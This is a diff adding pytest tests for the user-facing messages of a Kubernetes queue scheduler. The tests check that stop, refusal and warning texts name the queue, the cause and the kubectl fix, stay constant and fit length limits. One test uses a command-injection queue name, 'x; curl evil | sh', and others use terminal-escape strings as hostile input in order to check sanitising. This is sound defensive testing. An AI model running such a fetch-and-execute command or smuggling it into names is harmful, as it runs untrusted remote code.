@@ -1,0 +1,344 @@
+"""What users read: each text names the queue, the cause and the way out, always in the same bytes."""
+
+from __future__ import annotations
+
+import pytest
+
+from queues.queue import Queue
+from queues.showing import REASON_LIMIT
+from queues.states import State
+from queues.texts import fitted, refusal_text, stop_text, waiting_warning
+from queues.tree import Break
+from queues.verdict import Cause, Verdict, Why
+from tests.queues.cases import (
+    CLOSED,
+    DRAIN,
+    HOLD,
+    HOSTILE,
+    SUSPENDED,
+    asked,
+    line,
+    plain,
+    queue,
+    tree,
+)
+
+#: cause: the words that say it, the command that undoes it.
+STOPS = {
+    "suspended": (
+        Cause(why=Why.SUSPENDED, queue="research", by="research"),
+        ["research", "Suspended"],
+        "kubectl queue resume research",
+    ),
+    "suspended above": (
+        Cause(why=Why.SUSPENDED, queue="research", by="lab"),
+        ["research", "Suspended", 'ancestor "lab"'],
+        "kubectl queue resume lab",
+    ),
+    "held": (
+        Cause(why=Why.STOPPED, queue="research", by="research", policy=HOLD),
+        ["research", "stopPolicy Hold"],
+        "kubectl queue resume research",
+    ),
+    "drained above": (
+        Cause(why=Why.STOPPED, queue="research", by="lab", policy=DRAIN),
+        ["research", "stopPolicy HoldAndDrain", 'ancestor "lab"'],
+        "kubectl queue resume lab",
+    ),
+    "closed": (
+        Cause(why=Why.CLOSED, queue="research", by="research"),
+        ["research", "Closed"],
+        "kubectl queue open research",
+    ),
+    "closed above": (
+        Cause(why=Why.CLOSED, queue="research", by="lab"),
+        ["research", "Closed", 'ancestor "lab"'],
+        "kubectl queue open lab",
+    ),
+    "no parent": (
+        Cause(why=Why.BROKEN, queue="research", by="lab", broken=Break("lab", "ghost")),
+        ["research", "Unknown", 'parent "ghost" of queue "lab" does not exist'],
+        "kubectl edit queue lab",
+    ),
+    "a cycle": (
+        Cause(why=Why.BROKEN, queue="research", by="b", broken=Break("b", "a", ("a", "b"))),
+        ["research", "Unknown", "cycle", "a > b > a"],
+        "kubectl edit queue b",
+    ),
+    "no queue": (
+        Cause(why=Why.NOT_FOUND, queue="research", by="research"),
+        ["research", "does not exist"],
+        "kubectl queue create research",
+    ),
+    "no PodGroup": (
+        Cause(why=Why.NO_PODGROUP, queue="", by="train"),
+        ['PodGroup "train"', "does not exist"],
+        "kubectl create -f",
+    ),
+}
+ANY_STOP = pytest.mark.parametrize(("cause", "words", "command"), STOPS.values(), ids=STOPS)
+#: The ones that a user's reason belongs to.
+REASONED = [name for name, (cause, *_) in STOPS.items() if cause.why in (Why.SUSPENDED, Why.STOPPED)]
+
+
+def reasoned(name: str, reason: str) -> Cause:
+    cause = STOPS[name][0]
+    return Cause(why=cause.why, queue=cause.queue, by=cause.by, policy=cause.policy, reason=reason)
+
+
+# Stops
+
+
+@ANY_STOP
+def test_a_stop_names_the_queue_and_the_cause(cause: Cause, words: list[str], command: str) -> None:
+    """Whoever reads it knows which queue stops the pod, and why."""
+    assert [word for word in words if word not in stop_text(cause)] == []
+
+
+@ANY_STOP
+def test_a_stop_ends_with_the_way_out(cause: Cause, words: list[str], command: str) -> None:
+    """The command that undoes the stop comes last, for the queue that has to be changed."""
+    assert stop_text(cause).rpartition("with: ")[2].startswith(command)
+
+
+@ANY_STOP
+def test_a_warning_names_the_queue_the_cause_and_the_way_out(
+    cause: Cause, words: list[str], command: str
+) -> None:
+    """kubectl's user learns at once what the pod waits for."""
+    warning = waiting_warning(cause)
+    assert [word for word in (*words, command) if word not in warning] == []
+
+
+@pytest.mark.parametrize("name", ["suspended", "held", "closed"])
+def test_a_queue_that_stops_itself_is_not_called_its_ancestor(name: str) -> None:
+    """Only a queue further up is an ancestor."""
+    cause = STOPS[name][0]
+    assert "ancestor" not in stop_text(cause) + waiting_warning(cause)
+
+
+@pytest.mark.parametrize(
+    ("parts", "text"),
+    [
+        (
+            (queue("lab", desired=SUSPENDED, reason="new disks"), queue("research")),
+            'queue "research" is Suspended by its ancestor "lab" (new disks); '
+            "resume it with: kubectl queue resume lab",
+        ),
+        (
+            (queue("lab"), queue("research", stop_policy=DRAIN)),
+            'queue "research" is stopped by stopPolicy HoldAndDrain; '
+            "resume it with: kubectl queue resume research",
+        ),
+    ],
+)
+def test_a_stop_reads_as_a_sentence(parts: tuple[Queue, ...], text: str) -> None:
+    """From a verdict to the words: the whole sentence, once for each kind of stop."""
+    stop = asked(line(*parts), "research").stop
+    assert stop
+    assert stop_text(stop) == text
+
+
+@ANY_STOP
+def test_a_text_is_constant(cause: Cause, words: list[str], command: str) -> None:
+    """The same cause, worked out anew, gives the same bytes: else kube-scheduler would try for ever."""
+    again = Cause(**{name: getattr(cause, name) for name in cause.__struct_fields__})
+    assert (stop_text(again), waiting_warning(again)) == (stop_text(cause), waiting_warning(cause))
+
+
+# Refusals
+
+
+def test_a_refusal_reads_as_the_design_has_it() -> None:
+    """The denial of the design, word for word."""
+    assert (
+        refused(asked(tree(queue("research", desired=CLOSED)), "research"))
+        == 'queue "research" is Closed and takes no new pods; reopen it with: kubectl queue open research'
+    )
+
+
+def refused(found: Verdict, kind: str = "pods") -> str:
+    assert found.refusal
+    return refusal_text(found.refusal, state=found.state, kind=kind)
+
+
+@pytest.mark.parametrize("live", [False, True])
+@pytest.mark.parametrize("own", ["Open", "Suspended", "Closed"])
+@pytest.mark.parametrize("above", ["Open", "Suspended", "Closed"])
+def test_a_refusal_names_the_state_the_cause_and_the_way_out(above: str, own: str, live: bool) -> None:
+    """Whatever a queue shows, a refusal says it, who is closed, and how to open that one."""
+    pair = line(queue("lab", desired=above), queue("research", desired=own))
+    found = asked(pair, "research", live=live)
+    if found.refusal:
+        text, by = refused(found), found.refusal.by
+        assert f'"research" is {found.state}' in text
+        assert "takes no new pods" in text
+        assert text.endswith(f"kubectl queue open {by}")
+        assert ('ancestor "lab"' in text) is (by == "lab")
+
+
+def test_a_refusal_says_closed_where_the_queue_shows_suspended() -> None:
+    """A closed queue under a suspended one shows Suspended while members are live: no reason to refuse.
+
+    "is Suspended and takes no new pods" would be false of every other suspended queue.
+    """
+    pair = line(queue("lab", desired=SUSPENDED), queue("research", desired=CLOSED))
+    assert "close" in refused(asked(pair, "research", live=True)).lower()
+
+
+@pytest.mark.parametrize("own", ["Open", "Suspended"])
+def test_a_refusal_does_not_lay_an_ancestors_close_on_the_queue(own: str) -> None:
+    """Where an ancestor is to be closed the queue itself is not said to be: the close is told once."""
+    pair = line(queue("top", desired=SUSPENDED), queue("lab", desired=CLOSED), queue("research", desired=own))
+    text = refused(asked(pair, "research", live=True))
+    assert text.startswith('queue "research" is Suspended, its ancestor "lab" is')
+    assert text.lower().count("closed") == 1
+
+
+def test_a_refusal_names_the_kind_of_what_is_refused() -> None:
+    """A PodGroup is not told that there is no room for pods."""
+    text = refused(asked(tree(queue("q", desired=CLOSED)), "q"), "PodGroups")
+    assert "takes no new PodGroups" in text
+
+
+def test_a_refusal_on_a_broken_chain_says_what_to_mend() -> None:
+    """Unknown is explained by the missing parent, and the way out is to edit who asks for it."""
+    text = refused(asked(tree(queue("research", "lab"), queue("lab", "ghost")), "research"))
+    assert '"research" is Unknown' in text
+    assert 'parent "ghost" of queue "lab" does not exist' in text
+    assert "takes no new pods" in text
+    assert text.endswith("kubectl edit queue lab")
+
+
+def test_a_refusal_gives_the_reason_of_the_close() -> None:
+    """What the operator wrote is passed on."""
+    assert "(moving out)" in refused(asked(tree(queue("q", desired=CLOSED, reason="moving out")), "q"))
+
+
+# What users wrote
+
+
+@pytest.mark.parametrize("reason", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("name", REASONED)
+def test_a_hostile_reason_stays_on_one_printable_line(name: str, reason: str) -> None:
+    """No reason breaks a log line, colours a terminal, turns the direction of writing or fills a screen."""
+    text = stop_text(reasoned(name, reason))
+    assert plain(text)
+    assert len(text) <= len(stop_text(reasoned(name, ""))) + len(" ()") + REASON_LIMIT
+
+
+@pytest.mark.parametrize("reason", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_reason_does_not_hide_the_way_out(reason: str) -> None:
+    """Whatever an operator wrote, the queue is first and the command is last."""
+    text = stop_text(reasoned("suspended above", reason))
+    assert text.startswith('queue "research" is Suspended')
+    assert text.endswith("resume it with: kubectl queue resume lab")
+
+
+@pytest.mark.parametrize("reason", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_reason_stays_on_one_line_of_a_refusal(reason: str) -> None:
+    """Denials are as plain as stops."""
+    text = refused(asked(tree(queue("q", desired=CLOSED, reason=reason)), "q"))
+    assert plain(text)
+    assert len(text) < 300
+
+
+@pytest.mark.parametrize("name", REASONED)
+def test_a_reason_is_shown_with_the_stop(name: str) -> None:
+    """What the operator wrote stands in the text."""
+    assert "(new disks until Monday)" in stop_text(reasoned(name, "new disks until Monday"))
+
+
+@pytest.mark.parametrize("nothing", ["", " ", "\n\t", "\x00", "\u200b"])
+def test_a_reason_of_nothing_leaves_no_brackets(nothing: str) -> None:
+    """A reason without a visible character is none."""
+    assert stop_text(reasoned("suspended", nothing)) == stop_text(STOPS["suspended"][0])
+
+
+@pytest.mark.parametrize("name", REASONED)
+def test_a_warning_is_the_same_for_every_reason(name: str) -> None:
+    """A warning has no room for reasons."""
+    assert waiting_warning(reasoned(name, HOSTILE["huge"])) == waiting_warning(STOPS[name][0])
+
+
+HOSTILE_PARENTS = [f"gh\x1b[31most\n{'x' * n}" for n in (0, 1_000_000)]
+
+
+@pytest.mark.parametrize("parent", HOSTILE_PARENTS, ids=["escapes", "huge"])
+def test_a_hostile_parent_stays_on_one_printable_line(parent: str) -> None:
+    """`spec.parent` is what a user wrote, too: a missing one is shown as carefully as a reason."""
+    stop = asked(tree(queue("q", parent)), "q").stop
+    assert stop
+    assert plain(stop_text(stop))
+    assert len(stop_text(stop)) < 1024
+
+
+@pytest.mark.parametrize("name", HOSTILE_PARENTS, ids=["escapes", "huge"])
+@pytest.mark.parametrize("why", [Why.NOT_FOUND, Why.NO_PODGROUP])
+def test_a_hostile_name_stays_on_one_printable_line(why: Why, name: str) -> None:
+    """An annotation can ask for any queue or PodGroup: its name is shown as carefully as a reason."""
+    text = stop_text(Cause(why=why, queue=name, by=name))
+    assert plain(text)
+    assert len(text) < 1024
+
+
+def test_no_command_is_made_of_a_name_that_no_queue_can_have() -> None:
+    """Commands are there to be pasted: what an annotation asks for does not get into a shell that way."""
+    text = stop_text(Cause(why=Why.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
+    assert "create x; curl" not in text
+
+
+def test_a_great_cycle_is_not_told_in_full() -> None:
+    """A cycle of a thousand queues still makes a text that fits an event (1,024 bytes)."""
+    knot = tree(*(queue(f"q{i}", f"q{(i + 1) % 1000}") for i in range(1000)))
+    stop = asked(knot, "q0").stop
+    assert stop
+    assert len(stop_text(stop)) <= 1024
+
+
+# Warnings
+
+
+@pytest.mark.parametrize("length", [1, 8, 20, 63, 253])
+@pytest.mark.parametrize("name", [name for name, (cause, *_) in STOPS.items() if cause.why is not Why.BROKEN])
+def test_a_warning_fits_what_clients_show(name: str, length: int) -> None:
+    """Clients cut a warning of 120 characters, so none is that long, whatever the names."""
+    cause = STOPS[name][0]
+    by = "q" * length if cause.by == cause.queue else "p" * length
+    warning = waiting_warning(Cause(why=cause.why, queue="q" * length, by=by, policy=cause.policy))
+    assert len(warning) < 120
+    assert plain(warning)
+
+
+@pytest.mark.parametrize("length", [8, 16, 24])
+@pytest.mark.parametrize("name", ["suspended", "suspended above", "held", "drained above"])
+def test_a_warning_keeps_the_way_out_for_names_people_use(name: str, length: int) -> None:
+    """What is cut from a warning is not the command, which is of no use without its end."""
+    cause = STOPS[name][0]
+    names = {"research": "q" * length, "lab": "p" * length}
+    long = Cause(why=cause.why, queue=names[cause.queue], by=names[cause.by], policy=cause.policy)
+    assert f"kubectl queue resume {long.by}" in waiting_warning(long)
+
+
+@pytest.mark.parametrize("length", [1, 50, 65, 100, 253])
+def test_a_warning_for_a_missing_podgroup_names_it(length: int) -> None:
+    """Volcano names a PodGroup by its Job and a UID: however long, its beginning is shown."""
+    warning = waiting_warning(Cause(why=Why.NO_PODGROUP, queue="", by="train-" + "p" * length))
+    assert 'PodGroup "train-' in warning
+    assert "kubectl create -f" in warning
+    assert len(warning) < 120
+
+
+@pytest.mark.parametrize(
+    ("length", "kept"), [(0, 0), (1, 1), (118, 118), (119, 119), (120, 118), (5000, 118)]
+)
+def test_a_warning_is_cut_with_a_mark(length: int, kept: int) -> None:
+    """Up to 119 characters stay as they are; of more there are 118 and an ellipsis."""
+    assert fitted("w" * length) == "w" * kept + ("" if length == kept else "\u2026")
+
+
+@pytest.mark.parametrize("state", [State.CLOSING, State.CLOSED, State.SUSPENDED])
+def test_a_refusal_is_constant(state: State) -> None:
+    """The same cause and state give the same bytes."""
+    cause, again = (Cause(why=Why.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
+    assert refusal_text(cause, state=state) == refusal_text(again, state=state)
